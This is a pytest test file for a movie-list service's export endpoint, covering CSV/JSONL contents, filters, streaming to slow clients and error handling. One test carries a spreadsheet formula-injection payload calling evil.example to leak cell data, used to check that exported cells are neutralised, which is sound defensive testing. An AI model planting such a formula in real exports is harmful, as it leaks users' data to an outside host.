"""Taking a session away: whole files, safe cells, nothing held while a client reads slowly."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING

import aiohttp
import pytest
from structlog.testing import capture_logs

from api_service.handlers.exports import ROWS
from api_service.lists.files.spreadsheets import TO_CORRECT, WHOLE
from api_service.storage.movies import MovieStorage
from tests.support.exported import export, rows
from tests.support.varied import varied_session

if TYPE_CHECKING:
    from collections.abc import Sequence
    from uuid import UUID

    import asyncpg

    from tests.support.api_answering import Daemon
    from tests.support.api_driving import Service, Until

HEAT, FARGO, RAN = "title:heat|1995", "title:fargo|1996", "title:ran|1985"
CANDIDATE = {"tmdb_id": 275, "title": "Fargo", "year": 1996, "score": 70, "poster_path": None}


async def test_csv_has_the_users_own_data_and_tmdbs(service: Service, daemon: Daemon) -> None:
    session_id = await service.session(
        '"Heat",1995,4.5,2024-02-10,Yes,"noir, on-dvd","Good, ""very""\nindeed"',
        header="Title,Year,Rating,WatchedDate,Rewatch,Tags,Review",
    )
    await daemon.answer(found={HEAT: 949})
    (row,) = await rows(service, session_id)
    assert tuple(row) == WHOLE
    assert {name: cell for name, cell in row.items() if cell} == {
        "Position": "1",
        "Title": "Heat",
        "Year": "1995",
        "TMDb ID": "949",
        "IMDb ID": "tt0000949",
        "Outcome": "found",
        "Watched": "Yes",
        "Rating": "4.5",
        "Rating Original": "4.5/5",
        "Watch Dates": "2024-02-10",
        "Rewatches": "1",
        "Tags": "noir, on-dvd",
        "Review": 'Good, "very"\nindeed',
        "TMDB URL": "https://www.themoviedb.org/movie/949",
        "TMDB Title": "Film 949",
        "Original Title": "Film 949",
        "Genres": "Drama",
        "Directors": "Somebody",
        "Cast": "Anybody",
        "Runtime": "90",
        "Countries": "US",
        "Languages": "en",
        "Poster URL": row["Poster URL"],
        "Vote Count": "0",
        "Confidence": "100",
        "Session": row["Session"],
    }
    assert row["Poster URL"].endswith("/w342/poster.jpg")
    assert session_id not in str(row)


async def test_json_lines_are_the_movies_as_the_pages_have_them(
    service: Service, daemon: Daemon
) -> None:
    session_id = await service.session("Heat,1995", "Fargo,1996", "Ran,1985")
    await daemon.answer(found={HEAT: 949}, not_found=[FARGO], candidates=[CANDIDATE])
    response = await export(service, session_id, format="jsonl")
    lines = (await response.text()).splitlines()
    assert [json.loads(line) for line in lines] == await service.movies(session_id)
    assert response.content_type == "application/jsonl"
    assert 'filename="projectionist-films.jsonl"' in response.headers["Content-Disposition"]


@pytest.mark.parametrize("outcome", ["pending", "found", "not_found", "failed", "unmatched"])
async def test_only_what_ended_so_is_exported(
    service: Service, daemon: Daemon, outcome: str
) -> None:
    session_id = await service.session("Heat,1995", "Fargo,1996", "Ran,1985", "M,1931")
    await daemon.answer(found={HEAT: 949}, not_found=[FARGO], failed=[RAN])
    of = {
        "pending": ["M"],
        "found": ["Heat"],
        "not_found": ["Fargo"],
        "failed": ["Ran"],
        "unmatched": ["Fargo", "Ran"],
    }
    assert [row["Title"] for row in await rows(service, session_id, outcome=outcome)] == of[outcome]


@pytest.mark.parametrize("outcome", ["not_found", "unmatched"])
async def test_the_list_to_correct_says_why_and_what_it_could_be(
    service: Service, daemon: Daemon, outcome: str
) -> None:
    session_id = await service.session("Heat,1995", "Fargo,1996")
    await daemon.answer(found={HEAT: 949}, not_found=[FARGO], candidates=[CANDIDATE, CANDIDATE])
    response = await export(service, session_id, outcome=outcome)
    assert response.charset == "utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="projectionist-{outcome.replace("_", "-")}.csv"'
    )
    (row,) = await rows(service, session_id, outcome=outcome)
    assert tuple(row) == TO_CORRECT
    assert (row["Position"], row["Title"], row["Year"]) == ("2", "Fargo", "1996")
    assert (row["TMDb ID"], row["IMDb ID"], row["Reason"]) == ("", "", "because not_found")
    assert row["Candidates"] == "275 Fargo (1996)\n275 Fargo (1996)"


async def test_an_id_that_was_asked_for_in_vain_is_named(service: Service, daemon: Daemon) -> None:
    session_id = await service.session("5,", ",tt0000005", header="TMDB ID,IMDB ID")
    await daemon.answer(not_found=["tmdb:5", "imdb:tt0000005"])
    found = await rows(service, session_id, outcome="not_found")
    assert [(row["TMDb ID"], row["IMDb ID"]) for row in found] == [("5", ""), ("", "tt0000005")]


async def test_no_cell_is_a_formula_to_a_spreadsheet(service: Service) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    quoted = '"' + formula.replace('"', '""') + '"'
    session_id = await service.session(
        f"{quoted},1995,{quoted},{quoted}", "'71,2014,,", header="Title,Year,Tags,Review"
    )
    response = await export(service, session_id)
    text = (await response.read()).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert [cell for cell in cells if cell[:1] in set("=+-@\t\r")] == []
    assert cells.count(f"'{formula}") == 3
    assert "'71" in cells


@pytest.mark.parametrize("form", ["csv", "jsonl"])
async def test_what_fits_a_filter_is_exported_in_the_order_asked_for(
    service: Service, daemon: Daemon, form: str
) -> None:
    session_id = await varied_session(service, daemon, 33)
    asked = {"watched": "true", "genre": "Drama", "sort": "rating", "reverse": "true"}
    expected = await service.movies(session_id, limit=1000, **asked)
    assert expected
    if form == "csv":
        found = await rows(service, session_id, **asked)
        assert [int(row["Position"]) for row in found] == [one["position"] for one in expected]
    else:
        lines = (await (await export(service, session_id, format=form, **asked)).text()).split("\n")
        assert [json.loads(line) for line in lines if line] == expected


async def test_a_file_of_several_pages_has_every_movie_once(service: Service) -> None:
    count = 2 * ROWS + 1
    session_id = await service.session(*[f"Film {number},2000" for number in range(count)])
    exported = await rows(service, session_id)
    assert [row["Position"] for row in exported] == [str(number + 1) for number in range(count)]


async def test_a_session_of_no_movies_is_a_header_or_nothing(service: Service) -> None:
    session_id = await service.session("Heat,1995")
    await service.client.delete(f"/api/session/{session_id}/movies/1/match")
    assert await rows(service, session_id) == []
    assert await (await export(service, session_id, format="jsonl")).read() == b""


async def test_while_a_client_reads_slowly_no_connection_is_held_and_a_deletion_breaks_it_off(
    service: Service, until: Until
) -> None:
    review = "x" * 20_000
    session_id = await service.session(
        *[f"Film {number},{review}" for number in range(1_000)], header="Title,Review"
    )
    path = f"/api/session/{session_id}/export?format=jsonl"
    # The rest of the 20 MB does not fit into any buffer on the way.
    async with aiohttp.ClientSession(read_bufsize=2**12) as slow:
        response = await slow.get(service.client.make_url(path))
        await response.content.readexactly(100)

        async def settled() -> bool:
            return not await service.database.fetchval(
                """
                select count(*) from pg_stat_activity
                where application_name = 'projectionist-api' and datname = current_database()
                  and state <> 'idle'
                """
            )

        await until(settled)
        deleted = await service.client.delete(f"/api/session/{session_id}")
        assert deleted.status == 204
        with pytest.raises(aiohttp.ClientPayloadError):
            await response.read()


async def test_a_file_that_a_defect_cuts_short_does_not_look_whole(
    service: Service, monkeypatch: pytest.MonkeyPatch
) -> None:
    session_id = await service.session(*[f"Film {number}" for number in range(ROWS + 1)])
    read = MovieStorage.at

    async def fail_later(
        self: MovieStorage, session_id: UUID, positions: Sequence[int]
    ) -> list[asyncpg.Record]:
        if 1 not in positions:
            raise RuntimeError("a defect")
        return await read(self, session_id, positions)

    monkeypatch.setattr(MovieStorage, "at", fail_later)
    with capture_logs() as log:
        response = await service.client.get(f"/api/session/{session_id}/export")
        with pytest.raises(aiohttp.ClientPayloadError):
            await response.read()
    assert [event["event"] for event in log if event["log_level"] == "error"] == ["export_crashed"]


async def test_a_client_that_goes_away_is_no_defect(service: Service, until: Until) -> None:
    review = "x" * 20_000
    session_id = await service.session(
        *[f"Film {number},{review}" for number in range(1_000)], header="Title,Review"
    )
    url = service.client.make_url(f"/api/session/{session_id}/export")
    runner = service.client.server.runner
    assert runner is not None
    server = runner.server
    assert server is not None
    own = len(server.connections)
    with capture_logs() as log:
        for _ in range(5):
            async with aiohttp.ClientSession() as going:
                response = await going.get(url)
                await response.content.readexactly(100_000)
                response.close()
        await until(lambda: len(server.connections) == own)
    assert [event for event in log if event["log_level"] not in {"debug", "info"}] == []


async def test_asking_for_the_head_alone_sends_no_file(service: Service) -> None:
    session_id = await service.session("Heat,1995")
    response = await service.client.head(f"/api/session/{session_id}/export")
    assert (response.status, await response.read()) == (200, b"")
    assert "attachment" in response.headers["Content-Disposition"]
    assert (await service.status(session_id))["total_movies"] == 1


@pytest.mark.parametrize(
    ("query", "named"), [("format=xlsx", "csv, jsonl, letterboxd"), ("outcome=lost", "unmatched")]
)
async def test_a_wrong_parameter_is_named(service: Service, query: str, named: str) -> None:
    session_id = await service.session("Heat,1995")
    response = await service.client.get(f"/api/session/{session_id}/export?{query}")
    problem = await service.problem(response, 400, "bad_request")
    assert named in problem["detail"]


async def test_an_unknown_session(service: Service) -> None:
    response = await service.client.get("/api/session/00000000-0000-4000-8000-000000000000/export")
    await service.problem(response, 404, "session_not_found")
